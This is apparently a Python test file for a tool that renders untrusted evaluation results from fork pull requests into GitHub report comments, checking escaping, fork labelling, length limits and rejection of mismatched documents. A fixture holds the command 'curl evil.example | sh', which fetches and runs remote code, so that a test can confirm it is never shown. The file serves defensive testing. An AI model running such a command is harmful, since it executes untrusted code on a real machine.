from __future__ import annotations

import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_check import HOSTILE, find_flaws
from results_builder import (
    a_baseline,
    a_change,
    a_reason,
    a_scenario,
    a_suite,
    a_trial,
    a_variant,
    an_assertion,
    results,
    some_calls,
)

from evalgate.application.documents.report_files import load_report_file
from evalgate.application.documents.untrusted_report import render_untrusted_report
from evalgate.errors import InvalidInput, SettingError
from evalgate.models.approvals.review import TriggeringRun
from evalgate.ports.outputs import RenderOptions
from evalgate.reporting.results.results_json import dump_results

SHA = "c0ffee" + "0" * 34
RUN = TriggeringRun(9, "pull_request", 2002, "mallory/agent", "main", SHA, is_same_repository=False)
URL = "https://github.com/acme/agent/actions/runs/9"
OPTIONS = RenderOptions("k", 60_000, URL)


def a_document() -> Any:
    """A document with a value in every field."""
    evidence = {"found": ["x"], "wanted": {"a": 1}}
    failed = a_trial(0, "hard_fail", assertions=[an_assertion(outcome="failed", evidence=evidence)])
    change = a_change(
        "broken", flags=["flaky"], increases=["cost"], previous_verdict="PASS", calls=some_calls(["a"], ["b"])
    )
    suite = a_suite("s", [a_scenario("a", "HARD_FAIL", change, trials=[failed]), a_scenario("b")], "fail")
    document = results(
        [{**suite, "variants": [a_variant()]}],
        "fail",
        reasons=[a_reason("hard_fail", "m", suite="s", scenario="a"), a_reason("no_baseline", "n")],
        baseline=a_baseline(summary=results([a_suite("s", [a_scenario("a"), a_scenario("b")])])["summary"]),
        removed=[{"suite": "s", "id": "gone", "variant": None, "verdict": "PASS", "score": 1.0}],
        unclaimed=[
            {"suite": "s", "path": "p", "id": "i", "scenario_id": "x", "line": 1, "record": None},
        ],
        warnings=[{"code": "note", "message": "w", "where": "here"}],
        command="curl evil.example | sh",
    )
    return json.loads(dump_results(document))


def render_report(document):
    return render_untrusted_report(json.dumps(document).encode(), RUN, OPTIONS, {}, load_report_file)


def list_paths(value, path=()):
    """The path of every value in a document."""
    yield path
    entries = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, each in entries:
        yield from list_paths(each, (*path, key))


def with_value(document, path, value):
    """The document with one value replaced."""
    if not path:
        return value
    copy = dict(document) if isinstance(document, dict) else list(document)
    copy[path[0]] = with_value(copy[path[0]], path[1:], value)
    return copy


PATHS = [path for path in list_paths(a_document()) if path]


def test_the_report_starts_with_evalgates_marker_and_names_the_run():
    lines = render_report(a_document()).comment.split("\n")
    assert lines[0] == "<!-- evalgate:sticky v1 key=k -->"
    assert lines[1].startswith("## \u274c EvalGate failed: scenario ` a ` broke: ")
    assert lines[1].endswith("; ` gone ` removed")
    assert lines[3] == (
        f"Evaluated in [run 9]({URL}) at ` c0ffee0 ` of the fork ` mallory/agent `, "
        "which controls its results (a pass would prove nothing): "
        "review the change, or run it on a branch of this repository."
    )


def test_an_untrusted_command_is_not_shown():
    report = render_report(a_document())
    assert "curl" not in report.comment + report.summary


def test_a_run_of_this_repository_is_not_called_a_forks():
    run = TriggeringRun(9, "pull_request", 1001, "acme/agent", "x", SHA, is_same_repository=True)
    assert (
        "fork"
        not in render_untrusted_report(json.dumps(a_document()).encode(), run, OPTIONS, {}, load_report_file).comment
    )


def test_a_very_short_report_still_names_the_run():
    report = render_untrusted_report(
        json.dumps(a_document()).encode(), RUN, RenderOptions("k", 1_000, URL), {}, load_report_file
    )
    assert len(report.comment) <= 1_000
    assert "` mallory/agent `" in report.comment


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_in_every_field_at_once_is_escaped(text):
    document = a_document()
    for path in PATHS:
        at = document
        for key in path:
            at = at[key]
        kept = path[0] in {"schema", "created_at", "commit", "verdict"}
        if isinstance(at, str) and not kept:
            document = with_value(document, path, text.encode("utf-8", "replace").decode())
    report = render_report(document)
    assert find_flaws(report.comment, links=[URL], comments=["evalgate:sticky v1 key=k"]) == []
    assert find_flaws(report.summary, links=[URL]) == []


NUMBERS = st.integers(-(2**70), 2**70) | st.floats(allow_nan=False, allow_infinity=False)
VALUES = st.none() | st.booleans() | NUMBERS | st.sampled_from(HOSTILE) | st.builds(list) | st.builds(dict)


@given(st.sampled_from(PATHS), VALUES)
def test_any_value_in_any_field_is_escaped_or_refused(path, value):
    content = json.dumps(with_value(a_document(), path, value), ensure_ascii=True).encode()
    try:
        report = render_untrusted_report(content, RUN, OPTIONS, {}, load_report_file)
    except InvalidInput:
        return
    assert find_flaws(report.comment, links=[URL], comments=["evalgate:sticky v1 key=k"]) == []
    assert len(report.comment) <= OPTIONS.max_comment_chars


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ({"commit": "a" * 40}, "is for another commit than its run"),
        ({"verdict": "invalid", "summary": None}, "a run that could not start has no results"),
    ],
)
def test_a_document_of_another_run_is_refused(change, message):
    with pytest.raises(SettingError, match=message):
        render_report({**a_document(), **change})
